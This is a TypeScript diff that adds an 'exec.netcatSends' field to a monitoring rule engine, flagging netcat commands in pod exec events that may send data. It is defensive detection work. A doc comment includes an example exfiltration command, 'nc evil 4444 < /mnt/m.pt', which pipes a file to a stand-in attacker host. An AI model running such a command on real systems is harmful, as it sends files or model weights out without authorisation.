@@ -31,6 +31,8 @@
  * `attrs.exec.httpSendsTo`: `loopback` when every curl / wget command provably sends only to the
  * pod's loopback (`curl -d @req.json localhost:8000/v1/completions`), else `elsewhere`
  * (exec-http-destinations.ts);
+ * `attrs.exec.netcatSends`: the netcat tools of commands not in zero-I/O mode (`nc evil 4444 <
+ * /mnt/m.pt` gives `nc`, `nc -zv redis 6379` nothing; exec-netcat-sends.ts);
  * `actorNamespace`: the namespace of a service-account actor (where its token belongs).
  * GPU-window rules use job, node, gpu, `duration` (seconds) and `<DCGM field>[.mean|.max|.min]`.
  */
@@ -227,6 +229,8 @@ const EXEC_TOOL_WORDS = 'exec.toolWords';
 
 /** Where the exec's curl / wget commands send: `loopback` or `elsewhere` (exec-http-destinations.ts). */
 const EXEC_HTTP_SENDS_TO = 'exec.httpSendsTo';
+/** netcat commands that may send: not in zero-I/O mode (exec-netcat-sends.ts). */
+const EXEC_NETCAT_SENDS = 'exec.netcatSends';
 
 /** Derived exec fields by their path below `attrs.`. */
 const EXEC_DERIVED: Readonly<Record<string, (e: EventRecord) => unknown>> = {
@@ -241,6 +245,7 @@ const EXEC_DERIVED: Readonly<Record<string, (e: EventRecord) => unknown>> = {
   [EXEC_PERSISTS]: canonicalListField(EXEC_PERSISTS, (c) => c.persists),
   [EXEC_TOOL_WORDS]: canonicalListField(EXEC_TOOL_WORDS, (c) => c.toolWords),
   [EXEC_HTTP_SENDS_TO]: canonicalListField(EXEC_HTTP_SENDS_TO, (c) => c.httpSendsTo),
+  [EXEC_NETCAT_SENDS]: canonicalListField(EXEC_NETCAT_SENDS, (c) => c.netcatSends),
 };
 
 const TOP: Readonly<Record<string, (e: EventRecord) => unknown>> = {
